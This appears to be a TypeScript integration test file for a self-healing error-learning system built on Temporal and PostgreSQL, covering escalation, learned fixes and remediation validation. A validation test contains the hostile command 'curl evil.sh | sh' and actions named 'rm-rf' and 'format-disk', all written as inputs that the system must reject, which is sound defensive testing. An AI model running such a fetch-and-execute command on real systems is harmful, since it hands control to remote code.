import { memoryInput } from '../src/contracts/memory';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, describe, it } from 'node:test';
import { loadConfig, type BrainOpsConfig } from '../temporal.config';

import { errorLearningWorkflowId } from '../src/domain/signature-hash';
import { errorSignature, normaliseMessage } from '../src/domain/error-signature';
import type { Remediation } from '../src/contracts/remediation';
import { ValidationError } from '../src/contracts/errors';
import type { HealthTarget } from '../src/contracts/health';
import type { ErrorLearningStatus } from '../src/contracts/error-learning-messages';
import type { SystemMonitorResult } from '../src/workflows/system-monitor';
import { eventually, testConfig, testWorker, useTestStack, type OperatorClient } from './helpers';

/** A local HTTP service whose health a test breaks, and whose `/fix` repairs it (a real webhook). */
async function service(): Promise<{
  port: number;
  status: { code: number };
  fixes: { count: number };
  escalations: unknown[];
  close(): Promise<void>;
}> {
  const status = { code: 200 };
  const fixes = { count: 0 };
  const escalations: unknown[] = [];
  const server = http.createServer((req, res) => {
    if (req.url === '/escalate') {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        escalations.push(JSON.parse(body));
        res.writeHead(202).end();
      });
      return;
    }
    if (req.url === '/fix') {
      fixes.count++;
      status.code = 200;
      return res.writeHead(204).end();
    }
    if (req.url === '/broken-fix') return res.writeHead(500).end();
    res.writeHead(status.code).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    port: (server.address() as AddressInfo).port,
    status,
    fixes,
    escalations,
    close: () => {
      server.closeAllConnections();
      return new Promise((r) => server.close(() => r()));
    },
  };
}

function webhook(port: number, path: string): Remediation {
  return { kind: 'webhook', url: `http://127.0.0.1:${port}${path}`, method: 'POST', headers: {}, timeoutMs: 2000 };
}

describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', () => {
  const services: { close(): Promise<void> }[] = [];
  after(async () => {
    await Promise.all(services.map((s) => s.close()));
  });
  const stack = useTestStack();

  async function setup(name: string) {
    const svc = await service();
    services.push(svc);
    const target: HealthTarget = {
      kind: 'http',
      name,
      url: `http://127.0.0.1:${svc.port}/health`,
      expectStatus: 200,
      timeoutMs: 2000,
    };
    const base = testConfig(stack.db.url, { healthTargets: [target] });
    const config: BrainOpsConfig = {
      ...base,
      errorLearning: {
        ...base.errorLearning,
        remediations: {
          'fix-web': webhook(svc.port, '/fix'),
          'broken-fix': webhook(svc.port, '/broken-fix'),
          pause: { kind: 'wait', delayMs: 10 },
          'rerun-monitor': {
            kind: 'workflow',
            workflowType: 'systemMonitorWorkflow',
            args: [{ targets: [], learnFromErrors: false }],
            timeoutMs: 30_000,
          },
          'pause-then-fix': { kind: 'sequence', steps: ['pause', 'fix-web'] },
          'reset-failed': { kind: 'workflow-reset', resetTo: 'first-workflow-task', wait: true, timeoutMs: 30_000 },
        },
        escalationTimeoutMs: 60_000,
        escalationWebhook: `http://127.0.0.1:${svc.port}/escalate`,
      },
    };
    const client = stack.client(config);
    const signatureFor = (code: number) =>
      errorSignature(
        'HealthCheckFailed',
        `http check of ${name} failed: HTTP ${code} from ${target.url}, expected 200`,
      );
    return { svc, target, config, client, signatureFor };
  }

  async function result(client: OperatorClient, signature: string): Promise<ErrorLearningStatus> {
    return client.temporal.workflow.getHandle(errorLearningWorkflowId(signature)).result();
  }

  it('auto-resolves a known error, verifies it and updates the success rate', async () => {
    const { svc, config, client, signatureFor } = await setup('shop');
    const solution = await client.addSolution({
      problemSignature: signatureFor(503),
      description: 'call the repair hook',
      action: 'fix-web',
    });
    const worker = await testWorker(stack.env, config, stack.store);
    await worker.runUntil(async () => {
      svc.status.code = 503;
      const run = await client.runMonitor();
      assert.equal(run.results[0]?.status, 'down');
      const status = await result(client, signatureFor(503));
      assert.equal(status.state, 'resolved');
      assert.deepEqual(status.resolvedBy, { solutionId: solution.id, action: 'fix-web', by: 'automation' });
      assert.equal(svc.fixes.count, 1);
      assert.equal((await client.runMonitor()).results[0]?.status, 'up', 'the service really is healthy again');
    });
    const after = await stack.store.knowledge.getSolution({ id: solution.id });
    assert.deepEqual([after?.successCount, after?.failureCount, after?.usageCount, after?.successRate], [1, 0, 1, 1]);
    const [event] = await stack.store.errorEvents.list({ signature: signatureFor(503), limit: 1 });
    assert.equal(event?.status, 'resolved');
    assert.equal(event?.resolvedBy, solution.id);
    assert.ok((event?.resolutionMs ?? -1) >= 0);
    const decisions = await stack.store.pool.query(
      "select decision, confidence from decision_log where decision like 'apply%'",
    );
    assert.ok(decisions.rows.some((d) => d.decision === 'apply remediation "fix-web"' && d.confidence > 0.6));
    const summary = (await stack.store.errorEvents.summarise({ since: new Date(Date.now() - 3_600_000) })).find(
      (r) => r.signature === signatureFor(503),
    );
    assert.deepEqual(
      [summary?.occurrences, summary?.resolved, summary?.open, summary?.resolvedWith],
      [1, 1, 0, 'fix-web'],
    );
    assert.equal(summary?.medianResolutionMs, event?.resolutionMs);
  });

  it('escalates an unknown error, learns the fix a person gives, and applies it next time', async () => {
    const { svc, config, client, signatureFor } = await setup('api');
    const signature = signatureFor(500);
    const worker = await testWorker(stack.env, config, stack.store);
    await worker.runUntil(async () => {
      svc.status.code = 500;
      await client.runMonitor();
      const handle = client.temporal.workflow.getHandle(errorLearningWorkflowId(signature));
      await eventually(
        async () => ((await handle.query<ErrorLearningStatus>('status')).state === 'escalated' ? true : undefined),
        15_000,
        'escalation',
      );
      // The state turns 'escalated' before its activities (escalate, then mark the errors) have run.
      const event = await eventually(
        async () => {
          const [e] = await stack.store.errorEvents.list({ signature, limit: 1 });
          return e?.status === 'escalated' ? e : undefined;
        },
        15_000,
        'error event escalated',
      );
      const escalation = await stack.store.entries.list(
        memoryInput.list({ memoryType: 'system_error', keyPrefix: 'escalation/' }),
      );
      assert.ok(escalation.some((e) => (e.value as { signature: string }).signature === signature));
      assert.deepEqual(
        svc.escalations.map((e) => (e as { event: string; signature: string }).signature),
        [signature],
        'the escalation webhook was called once',
      );

      // A bad answer is refused and the run keeps waiting; a good one is learned.
      await handle.signal('resolve', { action: 'format-disk' });
      await eventually(
        async () =>
          (await handle.query<ErrorLearningStatus>('status')).lastRejectedAnswer?.includes(
            'not a registered remediation',
          )
            ? true
            : undefined,
        15_000,
        'rejected answer',
      );
      svc.status.code = 200;
      await client.resolveError({ errorEventId: event!.id, action: 'fix-web', description: 'restarted by hand' });
      const byPerson = await handle.result();
      assert.equal(byPerson.state, 'resolved');
      assert.equal(byPerson.resolvedBy?.by, 'person');

      svc.status.code = 500;
      await client.runMonitor();
      const second = await result(client, signature);
      assert.equal(second.state, 'resolved');
      assert.equal(second.resolvedBy?.by, 'automation', 'the learned fix is applied automatically');
      assert.equal(svc.fixes.count, 1);
    });
    const [learned] = (await stack.store.knowledge.listSolutions()).filter((s) => s.problemSignature === signature);
    assert.equal(learned?.source, 'human');
    assert.equal(learned?.successCount, 2);
  });

  it('falls through to the next candidate when a remediation fails', async () => {
    const { svc, config: base, client, signatureFor } = await setup('billing');
    // The target's configured remediation is the second candidate, after the known (broken) fix.
    const config = { ...base, errorLearning: { ...base.errorLearning, targetRemediations: { billing: 'fix-web' } } };
    const signature = signatureFor(502);
    const broken = await client.addSolution({
      problemSignature: signature,
      description: 'a fix that no longer works',
      action: 'broken-fix',
    });
    const worker = await testWorker(stack.env, config, stack.store);
    await worker.runUntil(async () => {
      svc.status.code = 502;
      await client.runMonitor();
      const status = await result(client, signature);
      assert.deepEqual(
        status.attempts.map((a) => [a.action, a.ok, a.verified]),
        [
          ['broken-fix', false, false],
          ['fix-web', true, true],
        ],
      );
      assert.equal(status.resolvedBy?.by, 'automation');
      assert.equal(status.resolvedBy?.solutionId, broken.id, 'one solution per signature');
    });
    const now = await stack.store.knowledge.getSolution({ id: broken.id });
    assert.deepEqual(
      [now?.action, now?.source, now?.successCount, now?.failureCount],
      ['fix-web', 'learned', 1, 0],
      'the fix that worked replaced the one that failed',
    );
    const outcomes = await stack.store.pool.query(
      'select outcome from decision_log where outcome is not null order by id desc limit 2',
    );
    assert.deepEqual(
      outcomes.rows.map((r) => r.outcome),
      ['resolved', 'failed: HTTP 500'],
    );
  });

  it('turns a storm of 50 occurrences of one error into one workflow that counts them', async () => {
    const { config, client } = await setup('storm');
    const worker = await testWorker(stack.env, config, stack.store);
    await worker.runUntil(async () => {
      const reports = await Promise.all(
        Array.from({ length: 50 }, (_, i) =>
          client.reportError({
            errorType: 'TimeoutError',
            message: `payment gateway timed out after ${3000 + i} ms`,
            source: 'checkout-service',
          }),
        ),
      );
      assert.equal(new Set(reports.map((r) => r.signature)).size, 1);
      const { workflowId } = reports[0]!;
      const handle = client.temporal.workflow.getHandle(workflowId);
      const status = await eventually(
        async () => {
          const s = await handle.query<ErrorLearningStatus>('status');
          return s.occurrences === 50 && s.state === 'escalated' ? s : undefined;
        },
        20_000,
        '50 occurrences counted',
      );
      assert.equal(status.attempts.length, 0);
      let runs = 0;
      for await (const _ of client.temporal.workflow.list({ query: `WorkflowId = '${workflowId}'` })) runs++;
      assert.equal(runs, 1);
      await handle.signal('ignore', { reason: 'load test' });
      assert.equal((await handle.result()).state, 'ignored');
    });
    const events = await stack.store.pool.query(
      "select status, count(*)::int as n from error_events where source = 'checkout-service' group by 1",
    );
    assert.deepEqual(events.rows, [{ status: 'ignored', n: 50 }]);
  });

  it('re-runs a Temporal workflow as a remediation', async () => {
    const { config, client } = await setup('jobs');
    const message = 'nightly sync left 12 rows unsynced';
    await client.addSolution({
      problemSignature: errorSignature('SyncError', message),
      description: 'run the job again',
      action: 'rerun-monitor',
    });
    const worker = await testWorker(stack.env, config, stack.store);
    await worker.runUntil(async () => {
      const { workflowId } = await client.reportError({ errorType: 'SyncError', message, source: 'sync-job' });
      const status = (await client.temporal.workflow.getHandle(workflowId).result()) as ErrorLearningStatus;
      assert.equal(status.state, 'resolved');
      assert.match(status.attempts[0]?.detail ?? '', /^remediation\/systemMonitorWorkflow\/.+ completed$/);
      let reruns = 0;
      for await (const w of client.temporal.workflow.list({
        query: "WorkflowType = 'systemMonitorWorkflow' AND ExecutionStatus = 'Completed'",
      })) {
        if (w.workflowId.startsWith('remediation/')) reruns++;
      }
      assert.equal(reruns, 1);
    });
  });

  it('runs a multi-step remediation as a child workflow, one activity per step', async () => {
    const { svc, config, client, signatureFor } = await setup('orders');
    const signature = signatureFor(504);
    await client.addSolution({
      problemSignature: signature,
      description: 'wait for the cache, then repair',
      action: 'pause-then-fix',
    });
    const worker = await testWorker(stack.env, config, stack.store);
    const childId = `${errorLearningWorkflowId(signature)}/remediation/1`;
    await worker.runUntil(async () => {
      svc.status.code = 504;
      await client.runMonitor();
      const status = await result(client, signature);
      assert.equal(status.state, 'resolved');
      assert.match(status.attempts[0]?.detail ?? '', /^1\. pause: ok \(waited 10 ms\); 2\. fix-web: ok \(HTTP 204\)$/);
      assert.equal(svc.fixes.count, 1);
      const child = await client.temporal.workflow.getHandle(childId).describe();
      assert.deepEqual(
        [child.type, child.status.name, child.parentExecution?.workflowId],
        ['remediationSequenceWorkflow', 'COMPLETED', errorLearningWorkflowId(signature)],
      );
    });
    const steps = await stack.store.pool.query(
      'select action, success, agent_id from work_history where workflow_id = $1 order by id',
      [childId],
    );
    assert.deepEqual(
      steps.rows,
      [
        { action: 'applyRemediation', success: true, agent_id: 'SystemMonitor' },
        { action: 'applyRemediation', success: true, agent_id: 'SystemMonitor' },
      ],
      'error-learning works for SystemMonitor: it heals through error-learning',
    );
  });

  it('resets the workflow an error came from once its cause is mended', async () => {
    const { svc, target, config, client } = await setup('ledger');
    const worker = await testWorker(stack.env, config, stack.store);
    await worker.runUntil(async () => {
      svc.status.code = 503;
      const probeId = `probe/${randomUUID()}`;
      const probe = await client.temporal.workflow.start('systemMonitorWorkflow', {
        taskQueue: config.temporal.taskQueue,
        workflowId: probeId,
        args: [{ targets: [target.name], learnFromErrors: false }],
      });
      assert.equal(((await probe.result()) as SystemMonitorResult).results[0]?.status, 'down');

      svc.status.code = 200;
      const message = 'ledger export saw the shop down';
      await client.addSolution({
        problemSignature: errorSignature('ExportError', message),
        description: 'run the export from the start',
        action: 'reset-failed',
      });
      const { workflowId } = await client.reportError({
        errorType: 'ExportError',
        message,
        source: 'ledger',
        workflowId: probeId,
      });
      const status = (await client.temporal.workflow.getHandle(workflowId).result()) as ErrorLearningStatus;
      assert.equal(status.state, 'resolved');
      assert.match(
        status.attempts[0]?.detail ?? '',
        new RegExp(`^${probeId} reset to event \\d+ as run [0-9a-f-]+, completed$`),
      );
      const now = await client.temporal.workflow.getHandle(probeId).describe();
      assert.notEqual(now.runId, probe.firstExecutionRunId, 'a new run');
      assert.equal(
        ((await client.temporal.workflow.getHandle(probeId).result()) as SystemMonitorResult).results[0]?.status,
        'up',
        'the work after the reset point ran again',
      );
    });
  });

  it('finds a fix for a differently worded error by the words of its message', async () => {
    const { client } = await setup('words');
    const taught = await client.addSolution({
      problemSignature: 'PoolError: too many clients @ acquire < query',
      description: 'wait for connections to free up',
      action: 'pause',
      exampleMessage: 'remaining connection slots are reserved for non-replication superuser connections',
    });
    const message = 'FATAL: remaining connection slots are reserved for non-replication superuser connections (pool 3)';
    const signature = errorSignature('error', message);
    const [match] = await stack.store.knowledge.findSimilarSolutions({
      signature,
      message: normaliseMessage(message),
      minSimilarity: 0.5,
    });
    assert.equal(match?.id, taught.id);
    assert.ok(match!.signatureSimilarity < 0.5, `signatures alone would not match (${match!.signatureSimilarity})`);
    assert.ok(match!.textSimilarity >= 0.8, `the words do (${match!.textSimilarity})`);
    const unrelated = 'disk quota exceeded on volume 3';
    const none = await stack.store.knowledge.findSimilarSolutions({
      signature: errorSignature('Error', unrelated),
      message: normaliseMessage(unrelated),
      minSimilarity: 0.5,
    });
    assert.ok(!none.some((s) => s.id === taught.id));
  });

  it('tells apart two fixes whose messages hold the same words by the closer signature', async () => {
    const { client } = await setup('ties');
    const errors = [
      'HTTP 503 from http://127.0.0.1:8080/health, expected 200',
      'HTTP 503 from https://api.example.com/v1/orders/42, expected 200',
    ];
    const taught: { id: number }[] = [];
    for (const [i, message] of errors.entries())
      taught.push(
        await client.addSolution({
          problemSignature: errorSignature('Error', message),
          description: i === 0 ? 'restart the web server' : 'fail over the orders API',
          action: 'pause',
          exampleMessage: message,
        }),
      );
    for (const [i, message] of errors.entries()) {
      const rows = await stack.store.knowledge.findSimilarSolutions({
        signature: errorSignature('Error', message),
        message: normaliseMessage(message),
        minSimilarity: 0.5,
      });
      const ours = rows.filter((r) => taught.some((t) => t.id === r.id));
      assert.equal(ours.length, 2, 'both are candidates');
      assert.equal(ours[0]!.textSimilarity, ours[1]!.textSimilarity, 'their words match the message equally');
      assert.equal(ours[0]!.id, taught[i]!.id, `${message}: its own fix first`);
    }
  });

  it('rejects a sequence naming an unregistered step', async () => {
    assert.throws(
      () =>
        loadConfig({
          BRAINOPS_REMEDIATIONS: JSON.stringify({
            pause: { kind: 'wait' },
            'two-steps': { kind: 'sequence', steps: ['pause', 'reboot'] },
          }),
        }),
      /BRAINOPS_REMEDIATIONS\.two-steps\.steps\.1: "reboot" is not a registered remediation/,
    );
  });

  it('rejects a solution naming an unregistered action or bad parameters', async () => {
    const { client } = await setup('strict');
    await assert.rejects(
      client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'rm-rf' }),
      (e) =>
        e instanceof ValidationError &&
        /action: "rm-rf" is not a registered remediation \(registered: fix-web, broken-fix, pause, rerun-monitor, pause-then-fix, reset-failed\)/.test(
          e.message,
        ),
    );
    await assert.rejects(
      client.addSolution({
        problemSignature: 'X: y',
        description: 'd',
        action: 'fix-web',
        params: { command: 'curl evil.sh | sh' },
      }),
      (e) =>
        e instanceof ValidationError && /params: Unrecognized key: "command" \(for a webhook action\)/.test(e.message),
    );
    await assert.rejects(
      client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'pause', params: { delayMs: -5 } }),
      (e) => e instanceof ValidationError && /params\.delayMs/.test(e.message),
    );
    assert.equal((await stack.store.knowledge.listSolutions()).filter((s) => s.problemSignature === 'X: y').length, 0);
  });
});
